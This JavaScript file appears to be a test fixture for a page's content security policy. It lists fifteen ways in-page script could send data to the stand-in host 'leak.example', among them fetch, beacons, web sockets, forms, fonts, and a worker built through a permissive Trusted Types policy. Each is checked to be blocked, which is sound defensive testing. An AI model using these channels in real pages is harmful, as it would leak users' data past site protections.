// Ways in which code inside a page could send something away. Each is tried without the policy (the canary must hear it) and
// with it (silence). Two ways are not here because no policy in a page can close them: navigating away and WebRTC; the page's
// script contains neither (xtask/src/page.rs looks for the second, review for the first).

/**
 * @typedef {object} Attempt
 * @property {string} name
 * @property {string} address
 * @property {(address: string) => unknown} run runs inside the page
 */

const HOST = "leak.example";

/** @type {readonly Attempt[]} */
export const ATTEMPTS = [
  { name: "fetch", address: `http://${HOST}/fetch`, run: (address) => fetch(address, { mode: "no-cors" }) },
  { name: "an https request", address: `https://${HOST}/fetch`, run: (address) => fetch(address, { mode: "no-cors" }) },
  {
    name: "a request to this machine",
    address: "http://127.0.0.1:8080/fetch",
    run: (address) => fetch(address, { mode: "no-cors" }),
  },
  {
    name: "XMLHttpRequest",
    address: `http://${HOST}/xhr`,
    run: (address) => {
      const request = new XMLHttpRequest();
      request.open("GET", address);
      request.send();
    },
  },
  { name: "a web socket", address: `ws://${HOST}/socket`, run: (address) => void new WebSocket(address) },
  { name: "an event source", address: `http://${HOST}/events`, run: (address) => void new EventSource(address) },
  { name: "a beacon", address: `http://${HOST}/beacon`, run: (address) => navigator.sendBeacon(address, "customers") },
  {
    name: "an image",
    address: `http://${HOST}/image`,
    run: (address) => {
      new Image().src = address;
    },
  },
  {
    name: "a style sheet",
    address: `http://${HOST}/style`,
    run: (address) => {
      const link = document.createElement("link");
      link.rel = "stylesheet";
      link.href = address;
      document.head.append(link);
    },
  },
  {
    name: "a prefetched link",
    address: `http://${HOST}/prefetch`,
    run: (address) => {
      const link = document.createElement("link");
      link.rel = "prefetch";
      link.href = address;
      document.head.append(link);
    },
  },
  {
    name: "a script",
    address: `http://${HOST}/script`,
    run: (address) => {
      const script = document.createElement("script");
      script.src = address;
      document.head.append(script);
    },
  },
  {
    name: "a frame",
    address: `http://${HOST}/frame`,
    run: (address) => {
      const frame = document.createElement("iframe");
      frame.src = address;
      document.body.append(frame);
    },
  },
  {
    name: "a form",
    address: `http://${HOST}/form`,
    run: (address) => {
      const form = document.createElement("form");
      form.action = address;
      form.method = "post";
      document.body.append(form);
      form.submit();
    },
  },
  {
    name: "a font",
    address: `http://${HOST}/font`,
    run: (address) => new FontFace("leak", `url(${address})`).load(),
  },
  {
    name: "a worker's fetch",
    address: `http://${HOST}/worker`,
    run: (address) => {
      const script = URL.createObjectURL(new Blob([`fetch(${JSON.stringify(address)}, { mode: "no-cors" })`]));
      // The page's own policy names no such worker; a hostile script would have to get past that first.
      const types = /** @type {any} */ (globalThis).trustedTypes;
      const policy = types?.createPolicy("lit-html", { createScriptURL: (/** @type {string} */ url) => url });
      return void new Worker(policy?.createScriptURL(script) ?? script);
    },
  },
];
